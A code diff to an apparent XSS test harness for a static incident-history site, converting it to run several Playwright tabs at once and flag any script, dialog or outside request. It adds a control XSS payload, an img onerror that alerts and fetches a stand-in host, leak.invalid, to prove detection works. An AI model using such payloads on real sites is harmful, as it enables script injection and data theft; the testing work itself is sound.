@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""No script of an author's runs: xss.py --lookback PATH [--payloads 1000] [--pages all] [--keep DIR]. Needs playwright and a Chromium.
+"""No script of an author's runs: xss.py --lookback PATH [--payloads 1000] [--pages all] [--tabs 4] [--keep DIR]. Needs playwright and a Chromium.
 
 One document a payload, with the payload in every place that a document has. The history is built by force and served; every page of an incident
 and pages of every other kind are opened in Chromium with the site's own Content-Security-Policy switched off, so that nothing but the escaping
@@ -7,6 +7,7 @@ protects them. The search is asked for the payloads, the feeds are shown as HTML
 a script of the payload runs, a request leaves, or the document holds an element or attribute that could run one.
 """
 import argparse
+import asyncio
 import functools
 import html
 import http.server
@@ -19,9 +20,10 @@ import sys
 import tempfile
 import threading
 import time
+import urllib.parse
 import xml.etree.ElementTree as ElementTree
 
-from playwright.sync_api import sync_playwright
+from playwright.async_api import Error, async_playwright
 
 SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
 
@@ -157,10 +159,14 @@ window.ran = (number) => window.reported('ran ' + number);
 for (const name of ['alert', 'confirm', 'prompt', 'print']) window[name] = (text) => window.reported(name + ' ' + text);
 """
 
+# What every tab must notice before its silence proves anything.
+CONTROL = "<!DOCTYPE html><img src=x onerror=\"alert(0); fetch('//leak.invalid/0')\">"
+
 INSPECT = """
-() => {
-  const bad = [];
-  for (const element of document.querySelectorAll('*')) {
+(text) => {
+  const page = text ? new DOMParser().parseFromString(text, 'text/html') : document;
+  const bad = document.visibilityState === 'visible' ? [] : ['hidden, where nothing is animated'];
+  for (const element of page.querySelectorAll('*')) {
     const name = element.localName;
     if (name === 'script' && element.type === 'application/ld+json') {
       // Data that no browser runs; it must be whole.
@@ -182,6 +188,12 @@ INSPECT = """
 
 
 class Quiet(http.server.SimpleHTTPRequestHandler):
+    protocol_version = "HTTP/1.1"
+
+    def end_headers(self):
+        self.send_header("Cache-Control", "max-age=3600")
+        super().end_headers()
+
     def log_message(self, *_):
         pass
 
@@ -204,7 +216,7 @@ def feeds(site):
                 kind = element.get("type", "text")
                 if element.tag.endswith(("title", "summary", "content", "subtitle")) and element.text:
                     texts.append(element.text if kind == "html" else html.escape(element.text))
-        yield path, "<!DOCTYPE html><title>feed</title>" + "".join(f"<div>{text}</div>" for text in texts)
+        yield "<!DOCTYPE html><title>feed</title>" + "".join(f"<div>{text}</div>" for text in texts)
 
 
 def main():
@@ -212,6 +224,7 @@ def main():
     options.add_argument("--lookback", required=True)
     options.add_argument("--payloads", type=int, default=1000)
     options.add_argument("--pages", choices=["all", "some"], default="some", help="of the kinds other than incidents")
+    options.add_argument("--tabs", type=int, default=4, help="of the browser, at the same time")
     options.add_argument("--chromium", default="/usr/bin/chromium")
     options.add_argument("--keep")
     given = options.parse_args()
@@ -227,71 +240,93 @@ def main():
     if len(incidents) != len(seen):
         sys.exit("an incident is missing")
 
-    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=site))
-    threading.Thread(target=server.serve_forever, daemon=True).start()
-    origin = f"http://127.0.0.1:{server.server_port}/"
     others = [path for path in sorted(site.rglob("*.html")) if path not in set(incidents)]
     if given.pages == "some":
         others = [path for path in others if len(path.relative_to(site).parts) <= 2] + random.Random(1).sample(others, min(300, len(others)))
-    attachments = sorted(path for path in site.glob("incidents/*/*") if path.name not in ("index.html", "index.json"))
-    found = []
-    with sync_playwright() as playwright:
-        browser = playwright.chromium.launch(executable_path=given.chromium, args=["--no-sandbox"])
-        context = browser.new_context(bypass_csp=True)
-        context.expose_function("reported", lambda text: found.append(f"{text} on {page.url}"))
-        context.add_init_script(WATCH)
-
-        def guard(route):
-            if route.request.url.startswith(origin):
-                return route.continue_()
-            found.append(f"a request for {route.request.url[:200]} on {page.url}")
-            return route.abort()
-
-        context.route("**/*", guard)
-        page = context.new_page()
-        page.on("dialog", lambda dialog: (found.append(f"a dialog on {page.url}"), dialog.dismiss()))
-        opened = 0
-        for path in incidents + others:
-            page.goto(origin + str(path.relative_to(site)).replace("%", "%25").replace("?", "%3F").replace("#", "%23"), wait_until="load")
-            try:
-                page.wait_for_function("!document.querySelector('meta[http-equiv=refresh]')", timeout=5_000)
-            except Exception:
-                page.wait_for_load_state("load")  # an old address led on in the meantime
-            found.extend(f"{bad} on {page.url}" for bad in page.evaluate(INSPECT))
-            opened += 1
-        print(f"{opened} pages opened, {len(found)} findings", flush=True)
-        for path in attachments:
-            try:
-                page.goto(origin + str(path.relative_to(site)), wait_until="load")
-            except Exception as error:
-                if "Download is starting" not in str(error):
-                    raise
-        kinds = {kind: sum(path.suffix == kind for path in attachments) for kind in sorted({path.suffix for path in attachments})}
-        print(f"{len(attachments)} attachments opened {kinds}, {len(found)} findings", flush=True)
-        page.goto(origin + "search/index.html", wait_until="load")
-        box = page.locator("input[type=search]").first
-        for payload in random.Random(2).sample(seen, min(150, len(seen))):
-            box.fill(payload.replace("\n", " ").replace("\r", " ").replace("\x00", " "))
-            page.wait_for_timeout(60)
-            found.extend(f"{bad} in search for {payload!r}" for bad in page.evaluate(INSPECT))
-        print(f"search asked, {len(found)} findings", flush=True)
-        shown = 0
-        for path, text in feeds(site):
-            page.goto(origin + "robots.txt")
-            page.set_content(text, wait_until="load")
-            page.wait_for_timeout(30)
-            shown += 1
-        for path in sorted(site.rglob("feed.xml"))[:20] + [site / "sitemap.xml", site / "actions.ics", site / "api" / "incidents.json"]:
-            try:
-                page.goto(origin + str(path.relative_to(site)).replace("%", "%25"), wait_until="load")
-            except Exception as error:
-                if "Download is starting" not in str(error):
-                    raise
-        print(f"{shown} feeds shown as HTML, {len(found)} findings", flush=True)
-        browser.close()
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=site))
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    found = asyncio.run(visit(f"http://127.0.0.1:{server.server_port}/", site, incidents + others, seen, given))
     for line in found[:40]:
         print(line)
     sys.exit(1 if found else 0)
+
+
+async def visit(origin, site, pages, seen, given):
+    """What was noticed in a browser whose tabs share out the pages; no name but the server's leads anywhere."""
+    found = []
+
+    def address(path):
+        return origin + urllib.parse.quote(str(path.relative_to(site)))
+
+    async def dismiss(dialog):
+        found.append(f"a dialog on {dialog.page.url}")
+        await dialog.dismiss()
+
+    def request(sent):
+        if not sent.url.startswith((origin, "data:", "blob:")):
+            found.append(f"a request for {sent.url[:200]} on {sent.frame.url}")
+
+    async def open_page(tab, path):
+        await tab.goto(address(path), wait_until="load")
+        if 'http-equiv="refresh"' in (text := path.read_text()):  # an old address
+            await tab.wait_for_url(lambda url: url != address(path), wait_until="load")
+            found.extend(f"{bad} on {path}" for bad in await tab.evaluate(INSPECT, text))
+        found.extend(f"{bad} on {tab.url}" for bad in await tab.evaluate(INSPECT))
+
+    async def open_file(tab, path):
+        try:
+            await tab.goto(address(path), wait_until="load")
+        except Error as error:
+            if "Download is starting" not in str(error):
+                raise
+
+    async def search(tab, payload):
+        await tab.locator("input[type=search]").first.fill(payload.replace("\n", " ").replace("\r", " ").replace("\x00", " "))
+        await tab.wait_for_timeout(60)
+        found.extend(f"{bad} in search for {payload!r}" for bad in await tab.evaluate(INSPECT))
+
+    async def show(tab, text):
+        await tab.goto(origin + "robots.txt")
+        await tab.set_content(text, wait_until="load")
+        await tab.wait_for_timeout(30)
+
+    async with async_playwright() as playwright:
+        browser = await playwright.chromium.launch(
+            executable_path=given.chromium, args=["--no-sandbox", "--disable-gpu", "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
+        context = await browser.new_context(bypass_csp=True, viewport={"width": 400, "height": 300})
+        await context.expose_binding("reported", lambda source, text: found.append(f"{text} on {source['page'].url}"))
+        await context.add_init_script(WATCH)
+        context.on("request", request)
+        context.on("dialog", dismiss)
+        tabs = [await context.new_page() for _ in range(given.tabs)]
+
+        async def share_out(what, work, items):
+            """Each tab takes the next item as soon as it is free."""
+            begin, rest = time.monotonic(), iter(items)
+
+            async def take(tab):
+                for item in rest:
+                    await work(tab, item)
+
+            await asyncio.gather(*map(take, tabs))
+            print(f"{len(items)} {what} in {time.monotonic() - begin:.0f} s, {len(found)} findings", flush=True)
+
+        for tab in tabs:
+            await show(tab, CONTROL)
+            if not (any("alert 0" in line for line in found) and any("leak.invalid/0" in line for line in found)):
+                sys.exit("a script that runs is not noticed")
+            found.clear()
+        await share_out("pages opened", open_page, pages)
+        attachments = sorted(path for path in site.glob("incidents/*/*") if path.name not in ("index.html", "index.json"))
+        await share_out(f"attachments {sorted({path.suffix for path in attachments})} opened", open_file, attachments)
+        for tab in tabs:
+            await tab.goto(origin + "search/index.html", wait_until="load")
+        await share_out("searches", search, random.Random(2).sample(seen, min(150, len(seen))))
+        await share_out("feeds shown as HTML", show, list(feeds(site)))
+        data = sorted(site.rglob("feed.xml"))[:20] + [site / "sitemap.xml", site / "actions.ics", site / "api" / "incidents.json"]
+        await share_out("feeds and files of data opened", open_file, data)
+        await browser.close()
+    return found
 
 
 if __name__ == "__main__":
